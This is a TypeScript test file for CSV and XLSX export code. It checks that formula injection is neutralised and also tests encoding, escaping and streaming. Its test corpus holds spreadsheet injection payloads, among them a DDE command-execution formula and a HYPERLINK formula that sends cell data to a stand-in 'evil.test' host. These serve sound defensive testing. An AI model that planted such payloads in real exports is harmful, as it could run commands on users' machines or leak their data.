import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";

import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { readXlsx } from "hucre/xlsx";
import { describe, expect, test } from "vitest";

import { dateOfSerial, openXlsx } from "../../../test/support/sheets.ts";
import type { Sheet, SheetColumn, SheetRow } from "./cells.ts";
import { csvFile } from "./csv.ts";
import { xlsxFile } from "./xlsx.ts";

const COLUMNS: readonly SheetColumn[] = [
  { header: "day", kind: "date" },
  { header: "name", kind: "text", width: 20 },
  { header: "quantity", kind: "number" },
  { header: "cost", kind: "money" },
  { header: "label:env", kind: "text" },
];

function sheet(rows: readonly SheetRow[], columns = COLUMNS, atOnce = 3): Sheet {
  async function* batches() {
    for (let at = 0; at < rows.length; at += atOnce) yield rows.slice(at, at + atOnce);
  }
  return { title: "Потребление", columns, batches: batches() };
}

const csvOf = async (rows: readonly SheetRow[], columns = COLUMNS) => buffer(csvFile(sheet(rows, columns)));
const cellsOf = (bytes: Buffer, delimiter = ","): string[][] =>
  parse(bytes, { bom: true, delimiter, relax_quotes: true, relax_column_count: true, record_delimiter: "\r\n" });
const textColumn: readonly SheetColumn[] = [{ header: "text", kind: "text" }];

/** What a spreadsheet takes for a formula; a number may begin with its minus. */
const isFormula = (cell: string) =>
  /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

const CORPUS = [
  "=1+1",
  "+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1;"click")',
  "x;=1+1",
  "x,@a",
  'x";=1+1;"',
  "a\t-1",
  "a\r\n=1",
  "＝1+1",
  "－1",
  "-",
  "'",
  '"',
  "a-b",
  "vm-1",
];
const dangerous = fc.oneof(
  fc.constantFrom(...CORPUS),
  fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n;,'\"| a1\u00a0＝") }),
  fc.string({ unit: "binary" }).filter((text) => !text.includes("\u0000")),
);

describe("formulas", () => {
  test("BAL-06 reliability 49: no text is a formula in CSV, whatever separator a spreadsheet of any country splits at", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(dangerous, { maxLength: 20 }), async (texts) => {
        const bytes = await csvOf(texts.map((text) => ["2026-10-01", text, "-1.5", "-0.01", text]));
        for (const row of cellsOf(bytes)) expect(row.filter(isFormula)).toEqual([]);
        // As Excel reads it where the separator is another one: split everywhere, lines too, whatever the quotes say.
        const torn = bytes.toString("utf8").split(/[;\t\r\n]/);
        expect(
          torn.map((part) => part.replace(/^"/, "")).filter((part) => /^[ \u00a0]{0,9}[=+\-@＝＋－＠]/.test(part)),
        ).toEqual([]);
      }),
      { numRuns: 300, seed: 49 },
    );
  });

  test("BAL-06 reliability 49: no text is a formula in XLSX, and nothing else of it changes", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(dangerous, { minLength: 1, maxLength: 20 }), async (texts) => {
        const [opened] = openXlsx(
          await buffer(
            xlsxFile(
              sheet(
                texts.map((text) => [text]),
                textColumn,
              ),
            ),
          ),
        );
        const cells = opened?.rows.map(([cell]) => cell) ?? [];
        expect(cells.every((cell) => cell?.type === "text" && !isFormula(cell.value))).toBe(true);
        const bare = cells.map((cell, at) => (texts[at] === cell?.value ? texts[at] : cell?.value.slice(1)));
        expect(bare).toEqual(texts.map((text) => text.toWellFormed()));
      }),
      { numRuns: 200, seed: 49 },
    );
  });

  test.each([
    ["=1+1", "'=1+1"],
    ["\tx", "'\tx"],
    ["vm-1", "vm-1"],
    ["x;=1+1", "x;'=1+1"],
    ["-5", "'-5"],
    ["", ""],
  ])("BAL-06 reliability 49: the text %j is written as %j", async (text, written) => {
    expect(cellsOf(await csvOf([[text, "x"]], [...textColumn, ...textColumn]))[1]?.[0]).toBe(written);
  });

  test("BAL-06 a header that a label's key makes dangerous is neutral too", async () => {
    const columns: SheetColumn[] = [{ header: "=cmd", kind: "text" }];
    expect(cellsOf(await csvOf([], columns))).toEqual([["'=cmd"]]);
    expect(openXlsx(await buffer(xlsxFile(sheet([], columns))))[0]?.headers).toEqual(["'=cmd"]);
  });
});

describe("CSV", () => {
  test("BAL-06 is UTF-8 with a byte order mark, CRLF, and quotes only where they are needed", async () => {
    const bytes = await csvOf([["2026-10-31", 'ООО «Ёж», "А"', "1.5", "-12.30", null]]);
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bytes.toString("utf8").slice(1)).toBe(
      'day,name,quantity,cost,label:env\r\n2026-10-31,"ООО «Ёж», ""А""",1.5,-12.30,\r\n',
    );
  });
});

describe("XLSX", () => {
  const ROW: SheetRow = ["2026-10-31", "Ёж & <b>", "0.12345678901234567890123", "-9999999999999.99", " x\n"];

  test("BAL-06 figures and dates are typed and keep every digit; texts keep every character", async () => {
    const [opened] = openXlsx(await buffer(xlsxFile(sheet([ROW, [null, "only this", null, null, null]]))));
    const [first, second] = opened?.rows ?? [];
    expect(first).toEqual([
      { type: "date", value: "46326" },
      { type: "text", value: "Ёж & <b>" },
      { type: "number", value: "0.12345678901234567890123" },
      { type: "money", value: "-9999999999999.99" },
      { type: "text", value: " x\n" },
    ]);
    expect(dateOfSerial("46326")).toBe("2026-10-31");
    expect(second).toEqual([null, { type: "text", value: "only this" }]);
    expect(opened?.headers).toEqual(COLUMNS.map(({ header }) => header));
  });

  test("BAL-06 another program's reader finds the same", async () => {
    const { sheets } = await readXlsx(await buffer(xlsxFile(sheet([ROW], COLUMNS))), {});
    expect(sheets.map(({ name }) => name)).toEqual(["Потребление"]);
    expect(sheets[0]?.rows[1]).toEqual([
      new Date("2026-10-31T00:00:00Z"),
      "Ёж & <b>",
      0.12345678901234568,
      -9999999999999.99,
      " x\n",
    ]);
  });

  test("BAL-06 what XML cannot carry is escaped as Excel does, and what looks like such an escape stays itself", async () => {
    const texts = ["a\u0001b", "_x0041_", "\uD800 alone", "a\r\nb", "\u001F", "😀"];
    const [opened] = openXlsx(
      await buffer(
        xlsxFile(
          sheet(
            texts.map((text) => [text]),
            textColumn,
          ),
        ),
      ),
    );
    expect(opened?.rows.map(([cell]) => cell?.value)).toEqual(texts.map((text) => text.toWellFormed()));
  });

  test("BAL-06 a text longer than Excel allows is cut, because Excel refuses the whole file", async () => {
    const [opened] = openXlsx(await buffer(xlsxFile(sheet([["ё".repeat(40_000)]], textColumn))));
    expect(opened?.rows[0]?.[0]?.value).toBe("ё".repeat(32_767));
  });

  test.each([0, 1, 3, 4, 6, 7, 8])(
    "BAL-06 %i rows at three a worksheet: none is lost, each has its header",
    async (count) => {
      const rows = Array.from({ length: count }, (_, at): SheetRow => [`r${at}`]);
      const opened = openXlsx(await buffer(xlsxFile(sheet(rows, textColumn, 2), 4)));
      expect(opened.map(({ rows: own }) => own.length)).toEqual(
        count === 0
          ? [0]
          : [...Array.from({ length: Math.ceil(count / 3) - 1 }, () => 3), count - 3 * (Math.ceil(count / 3) - 1)],
      );
      expect(opened.flatMap((one) => one.rows.map(([cell]) => cell?.value))).toEqual(rows.flat());
      expect(opened.every(({ headers }) => headers[0] === "text")).toBe(true);
      expect(new Set(opened.map(({ name }) => name)).size).toBe(opened.length);
    },
  );

  test("BAL-06 the same table is the same file", async () => {
    const one = await buffer(xlsxFile(sheet([ROW])));
    expect(await buffer(xlsxFile(sheet([ROW])))).toEqual(one);
  });

  test("BAL-06 columns beyond Z have their letters", async () => {
    const columns = Array.from({ length: 60 }, (_, at): SheetColumn => ({ header: `c${at}`, kind: "text" }));
    const [opened] = openXlsx(await buffer(xlsxFile(sheet([columns.map(({ header }) => header)], columns))));
    expect(opened?.rows[0]?.map((cell) => cell?.value)).toEqual(columns.map(({ header }) => header));
  });
});

describe.each([
  ["CSV", csvFile],
  ["XLSX", xlsxFile],
] as const)("%s as a stream", (_name, write) => {
  /** Batches without end, or up to a failure; tells when they were told to stop. */
  function endless(failAfter = Infinity) {
    const seen = { batches: 0, ended: Promise.withResolvers<void>() };
    async function* batches() {
      try {
        for (;;) {
          if ((seen.batches += 1) > failAfter) throw new Error("the source is gone");
          yield Array.from({ length: 500 }, (): SheetRow => [Math.sin(seen.batches).toString().repeat(5)]);
        }
      } finally {
        seen.ended.resolve();
      }
    }
    return { seen, stream: write({ title: "x", columns: textColumn, batches: batches() }) };
  }

  test("reliability 55: a reader that goes away ends the batches", async () => {
    const { seen, stream } = endless();
    await stream[Symbol.asyncIterator]().next();
    stream.destroy();
    await expect(seen.ended.promise).resolves.toBeUndefined();
  });

  test("reliability 55: a reader that does not read holds the batches back", async () => {
    const { seen, stream } = endless();
    stream.once("readable", () => undefined);
    // Until a turn of the event loop has brought nothing new for a while: the buffers are full.
    for (let still = 0, last = 0; still < 200; still = seen.batches === last ? still + 1 : 0) {
      last = seen.batches;
      await new Promise((resolve) => setImmediate(resolve));
    }
    expect(seen.batches).toBeLessThan(200);
    stream.destroy();
    await seen.ended.promise;
  });

  test("an error of the batches is the stream's error: half a file never looks whole", async () => {
    await expect(buffer(endless(30).stream)).rejects.toThrow("the source is gone");
  });

  test("takes batches that are made as they are read", async () => {
    async function* batches() {
      yield new Set<SheetRow>([["a"], ["b"]]);
      yield [];
    }
    const bytes = await buffer(write({ title: "x", columns: textColumn, batches: batches() }) as Readable);
    expect(bytes.length).toBeGreaterThan(10);
  });
});
